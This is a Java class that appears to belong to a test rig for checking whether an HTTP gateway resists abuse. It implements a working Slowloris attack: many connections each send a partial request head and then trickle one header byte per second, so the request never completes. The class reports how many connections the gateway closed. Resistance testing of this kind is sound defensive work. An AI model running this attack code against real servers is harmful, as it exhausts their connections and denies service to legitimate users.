package org.arbiter.live.abuse;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;

/**
 * N HTTP/1.1 connections that send a partial request head and then one more header byte per
 * second, never the blank line that ends the head. Refused when every one is closed by the
 * gateway (or refused at connect) within {@link AbuseSettings#closeBoundSeconds()} of the last one
 * opened.
 */
final class SlowlorisAttack implements Attack {

    private static final byte[] HEAD = "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n".getBytes(StandardCharsets.US_ASCII);
    /** Trickled one byte a second, over and over: header lines, never an empty one. */
    private static final byte[] TRICKLE = "X-a: b\r\n".getBytes(StandardCharsets.US_ASCII);

    @Override
    public String name() {
        return "slowloris";
    }

    @Override
    public String what() {
        return "N HTTP/1.1 connections send a partial head, then one header byte per second";
    }

    @Override
    public String gateway() {
        return AbuseRig.PLAIN;
    }

    @Override
    public AttackOutcome run(Target target, AbuseSettings s) throws Exception {
        int refusedAtConnect = 0;
        long start = System.nanoTime();
        try (ConnectionWatch watch = new ConnectionWatch()) {
            long nextByte = System.nanoTime() + 1_000_000_000L;
            int tick = 0;
            for (int i = 0; i < s.connections(); i++) {
                try {
                    Socket c = target.connect(5);
                    c.getOutputStream().write(HEAD);
                    c.getOutputStream().flush();
                    watch.hold(c);
                } catch (IOException e) {
                    refusedAtConnect++;
                }
                if (System.nanoTime() > nextByte) {
                    trickle(watch, TRICKLE[tick++ % TRICKLE.length]);
                    nextByte += 1_000_000_000L;
                }
            }
            double openedSeconds = (System.nanoTime() - start) / 1e9;
            long until = System.nanoTime() + (long) (s.closeBoundSeconds() * 1e9);
            while (System.nanoTime() < until && watch.closedByGateway() < watch.held()) {
                Thread.sleep(Math.max(1, Math.min((until - System.nanoTime()) / 1_000_000,
                        (nextByte - System.nanoTime()) / 1_000_000)));
                if (System.nanoTime() >= nextByte) {
                    trickle(watch, TRICKLE[tick++ % TRICKLE.length]);
                    nextByte += 1_000_000_000L;
                }
            }
            int closed = watch.closedByGateway();
            int open = watch.held() - closed;
            int refused = refusedAtConnect + closed;
            Verdict v = new Verdict(Verdict.ATTACK_REFUSED, refused == s.connections(), String.format(Locale.ROOT,
                    "%d of %d closed by the gateway within %.1f s of the last one opened, %d refused at connect, %d still open",
                    closed, s.connections(), s.closeBoundSeconds(), refusedAtConnect, open));
            return new AttackOutcome(s.connections(), refused, open, Map.of(), List.of(),
                    new ArrayList<>(List.of(String.format(Locale.ROOT, "opened %d in %.1f s, %d bytes trickled each",
                            watch.held(), openedSeconds, tick))), List.of(v));
        }
    }

    /** One byte to every connection still open; a write that fails means the gateway closed it. */
    private static void trickle(ConnectionWatch watch, byte b) {
        for (Socket c : watch.open()) {
            try {
                c.getOutputStream().write(b);
                c.getOutputStream().flush();
            } catch (IOException e) {
                // closed: its reader counts it
            }
        }
    }
}
